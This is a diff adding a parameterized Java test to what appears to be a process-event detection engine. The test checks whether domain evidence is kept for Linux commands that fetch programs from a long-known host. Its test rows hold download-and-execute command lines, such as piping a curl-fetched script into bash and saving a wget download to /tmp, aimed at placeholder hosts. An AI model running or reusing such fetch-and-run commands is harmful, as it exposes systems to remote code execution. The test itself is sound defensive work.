@@ -161,6 +161,35 @@ class CommandPlacesTest {
         assertThat(fresh.getDomain().getTenantKey()).isEqualTo("evil.sbs");
     }
 
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "/usr/bin/bash|bash -c \"$(curl -fsSL https://old.example/a)\"|true",
+                "/usr/bin/curl|curl -fsSL https://old.example/a.sh|true",
+                "/usr/bin/wget|wget -q https://old.example/fix -O /tmp/fix|true",
+                "/usr/bin/wget|wget -q https://old.example/fix -O /tmp/fix.txt|false",
+                "/usr/bin/curl|curl -s https://old.example/status|false",
+                "/usr/bin/wget|wget -q https://old.example/|false"
+            })
+    void keepsAPlaceThatIsKnownForLongWhereTheCommandTakesItsFirstProgramFromThere(
+            String image, String commandLine, boolean kept) {
+        CompiledTuning tuning = TestTunings.builtIn(Platform.LINUX);
+        Event event = sysmon(EventKind.PROCESS_START)
+                .setHost(Host.newBuilder()
+                        .setName(HOST)
+                        .setPlatform(Platform.LINUX)
+                        .build())
+                .setProcess(process(image, commandLine, "/usr/bin/bash"))
+                .build();
+        Evidence run = Objects.requireNonNull(enrichment.enrich(event, HOST, tuning));
+        var firstProgram = run.getDomain().getFirstProgram() ? TEN : null;
+        Evidence known = Objects.requireNonNull(EvidenceCompletion.withNovelty(
+                run, new Novelty.Seen(TEN.minus(Duration.ofDays(30)), new Prevalence(0, 0), firstProgram), tuning));
+
+        assertThat(known.getDomain() != null).isEqualTo(kept);
+    }
+
     private boolean isPasted(
             Platform platform, String image, String commandLine, String parent, @Nullable String parentLine) {
         Process process = Process.newBuilder(process(image, commandLine, parent))
